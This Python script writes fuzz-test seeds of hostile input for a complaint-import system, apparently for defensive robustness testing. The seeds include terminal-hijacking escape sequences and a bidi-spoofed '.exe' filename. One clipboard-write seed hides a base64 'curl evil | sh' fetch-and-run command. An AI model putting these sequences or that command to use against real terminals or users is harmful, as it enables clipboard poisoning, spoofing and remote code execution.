#!/usr/bin/env python3
"""Writes the hostile seed files of tests/fuzz/seeds/.

The seeds are committed; this script says how each was made, so a seed can
be changed or added by editing it and running it again from this directory:
    python3 make_seeds.py
Each seed is bytes a desk could paste, type or hand in as a file: escape
sequences that retitle, clear or take over a terminal, C1 controls, bidi
overrides, zero-width and combining characters, emoji sequences, invalid
UTF-8, NUL bytes, a 100 kB line without spaces, CSV and JSON imports
(well-formed and not) and the same text in the legacy encodings.
The seeds named regress_* are not made here: each is the reproducer of a
bug the fuzz targets found, kept as it was written."""
import json
import os

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

TEXT = {
    "csi": "red " + ESC + "[31mRED" + ESC + "[0m clear" + ESC + "[2J"
           + ESC + "[H home " + ESC + "[10;20Hmoved " + ESC + "[?1049h alt "
           + ESC + "[6n report " + ESC + "[1;2;3;4;5;6;7;8;9;10;11;12m",
    "osc0_title": "before" + ESC + "]0;pwned title" + BEL + "after "
                  + ESC + "]2;other" + ST + " end",
    "osc8_link": ESC + "]8;;http://evil.example/x" + ST + "click me"
                 + ESC + "]8;;" + ST + " done",
    "osc52_clipboard": "copy" + ESC + "]52;c;Y3VybCBldmlsIHwgc2gK" + BEL
                       + " and " + ESC + "]52;p;?" + ST,
    "dcs": ESC + "P+q544e" + ST + " " + ESC + "Ptmux;" + ESC + ESC
           + "]0;nested" + BEL + ST + " " + ESC + "_apc" + ST + ESC
           + "^pm" + ST + ESC + "Xsos" + ST,
    "unterminated": "tail " + ESC + "]0;never ends " + ESC + "[",
    "c1": "csi\u009b31m osc\u009d0;t\u009c nel\u0085 dcs\u0090x\u009c"
          + " all" + "".join(chr(c) for c in range(0x80, 0xa0)),
    "c0": "".join(chr(c) for c in range(0, 0x20)) + "\x7f" + "tab\tcr\rlf\n"
          + "crlf\r\n",
    "bidi": "invoice_\u202etxt.exe\u202c \u2066iso\u2069 \u2067r\u2069 "
            "\u2068f\u2069 \u200eL\u200fR \u061c \u202a\u202b\u202d",
    "zero_width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\ufe0fg "
                  "\ufeff\u200b\u200b",
    "combining": "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307 "
                 "\u0301start Z\u0338\u0322\u034e\u0324\u0329\u034b\u0344"
                 "\u035d 한\u1100\u1161\u11a8 \u3099\u309a",
    "emoji_zwj": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d"
                 "\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 "
                 "\U0001f44d\U0001f3fd \U0001f1e8\U0001f1f3 \U0001f621 "
                 "\u2764\ufe0f \u263a\ufe0e 1\ufe0f\u20e3",
    "cjk_wrap": "「维权」（消费者）：买的手机是假货，商家说“不退”。"
                "第二行……要求退款！①②③ ×○ ·—",
    "ambiguous": "\u00b7\u2018\u2019\u201c\u201d\u00d7\u25cb\u2460"
                 "\u0391\u0430\u2500\ue000\U000f0000",
    "noncharacters": "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff\ufffd",
}

# Bytes that are not valid UTF-8 (or not valid anything).
BYTES = {
    "overlong.bin": b"slash \xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf nul \xc0\x80"
                    b" esc \xc0\x9b",
    "surrogates.bin": b"hi \xed\xa0\x80 lo \xed\xbf\xbf pair \xed\xa0\xbd"
                      b"\xed\xb8\x80 big \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80",
    "stray.bin": b"\x80\x81\xbf cut \xe4\xb8 \xf0\x9f\x98 \xff\xfe\xfd end\xc3",
    "nul.bin": b"a\x00b\x00\x00c\x00\x1b[2J\x00",
    "c1_raw.bin": b"raw C1 bytes \x9b2J \x9d0;t\x07 \x90q\x9c",
    "longline.txt": ("维权ABC" * 11111).encode() + b"x",  # 100,000 bytes
}

HEADER = ("number,type,category,region,status,substate,assignee,received_at,"
          "consumer_name,consumer_phone,consumer_id_number,merchant_name,"
          "merchant_platform,merchant_shop_id,merchant_region,order_no,amount,"
          "order_date,remedy,statement")


def csv_quote(s):
    return '"' + s.replace('"', '""') + '"'


def record(statement, consumer, merchant, **extra):
    r = {"type": "complaint", "category": "quality",
         "consumer_name": consumer, "merchant_name": merchant,
         "statement": statement}
    r.update(extra)
    return r


RECORDS = [
    record(TEXT["csi"] + "\n" + TEXT["osc0_title"], "张三" + ESC + "[31m",
           TEXT["bidi"], amount="1299.00", order_date="2026-02-14",
           remedy="refund", received_at="2026-02-20T08:30:00Z"),
    record(TEXT["osc52_clipboard"] + TEXT["dcs"], TEXT["combining"],
           TEXT["emoji_zwj"], consumer_phone="13812345678",
           merchant_platform=TEXT["c1"]),
    record(" lead and trail \t", TEXT["zero_width"], "a,b\"c\"\r\nd",
           number="WQ-2026-000777", status="accepted", assignee="admin",
           received_at="2026-02-21T10:00:00Z"),
    record("a lone\rCR and\x0bVT and\x0cFF", "tab\tinside", "bell\x07"),
]


def csv_text(records):
    fields = HEADER.split(",")
    lines = [HEADER]
    for r in records:
        lines.append(",".join(csv_quote(r[f]) if f in r else ""
                              for f in fields))
    return "\r\n".join(lines) + "\r\n"


def json_text(records):
    out = []
    for r in records:
        o = dict(r)
        if "amount" in o:
            o["amount_fen"] = int(round(float(o.pop("amount")) * 100))
        out.append(o)
    return json.dumps(out, ensure_ascii=False, indent=1)


def main():
    out = "seeds"
    os.makedirs(out, exist_ok=True)
    files = {}
    for name, s in TEXT.items():
        files[name + ".txt"] = s.encode()
    files.update(BYTES)
    files["import.csv"] = csv_text(RECORDS).encode()
    files["import.json"] = json_text(RECORDS).encode()
    files["import_escaped.json"] = json_text(RECORDS).encode() \
        .replace(b"\xe5\xbc\xa0", b"\\u5f20").replace(b"\x1b", b"\\u001b")
    plain = [record("收到的手机屏幕有划痕，商家拒绝退款", "李四", "优品数码旗舰店",
                    amount="12.5", region="广东省广州市")]
    files["gb18030.csv"] = csv_text(plain).encode("gb18030")
    files["big5.csv"] = csv_text(
        [record("收到的手機螢幕有刮痕", "陳大文", "優品數碼")]).encode("big5")
    files["utf16le.csv"] = b"\xff\xfe" + csv_text(plain).encode("utf-16-le")
    files["utf16be.json"] = b"\xfe\xff" + json_text(plain).encode("utf-16-be")
    files["utf8bom.csv"] = b"\xef\xbb\xbf" + csv_text(plain).encode()
    files["gb18030_emoji.json"] = json_text(
        [record("\U0001f621 四字节 \u20ac", "王五", "店")]).encode("gb18030")
    files["number_bom.csv"] = csv_text(
        [record("s", "c", "m", number="\ufeffWQ-BOM")]).encode()
    bad = csv_text(plain)
    files["csv_bad_quote.csv"] = bad.replace("李四", 'li"si').encode()
    files["csv_unclosed.csv"] = (bad + '"never closed,\r\n').encode()
    files["csv_short_row.csv"] = (bad + "a,b\r\n").encode()
    files["csv_unknown_column.csv"] = bad.replace("remedy", "remedy" + ESC
                                                  + "[2J").encode()
    files["csv_nul_field.csv"] = bad.replace("李四", "李\0四").encode()
    files["json_truncated.json"] = json_text(plain)[:-9].encode()
    files["json_not_array.json"] = b'{"type": "complaint"}'
    files["json_wrong_type.json"] = b'[{"type": "complaint", "amount_fen":' \
                                    b' "12", "statement": ["x"]}]'
    files["json_lone_surrogate.json"] = b'[{"statement": "\\ud800 \\udfff"}]'
    files["json_nul_escape.json"] = json_text(plain).replace(
        "李四", "李\\u0000四").encode()
    files["json_unknown_key.json"] = b'[{"\\u001b]0;t\\u0007": 1}]'
    files["json_amount.json"] = b'[{"amount": 1}, {"amount_fen": -1}]'
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
